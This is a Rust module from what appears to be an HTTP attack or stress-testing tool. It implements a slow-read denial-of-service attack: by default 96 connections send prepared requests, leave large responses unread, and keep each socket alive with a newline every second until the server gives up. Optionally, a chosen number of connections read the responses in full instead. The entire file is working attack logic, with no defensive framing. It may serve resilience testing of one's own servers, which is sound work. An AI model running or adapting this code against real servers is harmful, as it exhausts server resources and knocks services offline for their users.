//! Large responses: unread ones from many connections, or read ones from few.

use std::io;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;

use super::connection::{open, open_narrow, status};
use super::scene::AttackContext;

/// Pause of a connection before it is replaced.
const PAUSE: Duration = Duration::from_millis(200);

/// Number of connections that read nothing.
const UNREAD: usize = 96;

/// Runs the attack until it is over: each connection sends one of the prepared requests. With `connections`, so many of
/// them read the whole response; otherwise 96 read only the beginning.
pub async fn run(scene: &Arc<AttackContext>, connections: Option<usize>) -> anyhow::Result<()> {
    let mut tasks = JoinSet::new();
    for number in 0..connections.unwrap_or(UNREAD) {
        let scene = Arc::clone(scene);
        tasks.spawn(async move {
            let requests = &scene.orders.requests;
            let Some(request) = requests.get(number % requests.len().max(1)) else { return };
            while !scene.is_over() {
                let sent = send(&scene, request, connections.is_some());
                match tokio::time::timeout_at(scene.until.into(), sent).await {
                    Ok(Err(_)) => scene.count("closed"),
                    Ok(Ok(())) => {}
                    Err(_) => scene.count("open at the end"),
                }
                tokio::time::sleep(PAUSE).await;
            }
        });
    }
    tasks.join_all().await;
    Ok(())
}

/// Sends a request, and reads the response or only its beginning; then nothing until the server closes the connection.
async fn send(scene: &AttackContext, request: &str, reads: bool) -> io::Result<()> {
    let mut stream = if reads { open(scene).await? } else { open_narrow(scene).await? };
    stream.write_all(request.as_bytes()).await?;
    let mut begin = [0; 12];
    stream.read_exact(&mut begin).await?;
    scene.count(status(&begin).as_deref().unwrap_or("no status"));
    if reads {
        tokio::io::copy(&mut stream, &mut tokio::io::sink()).await?;
        return Ok(());
    }
    if !begin.ends_with(b"200") {
        return Ok(());
    }
    // It ends when the server has closed the connection.
    loop {
        tokio::time::sleep(Duration::from_secs(1)).await;
        stream.write_all(b"\n").await?;
    }
}
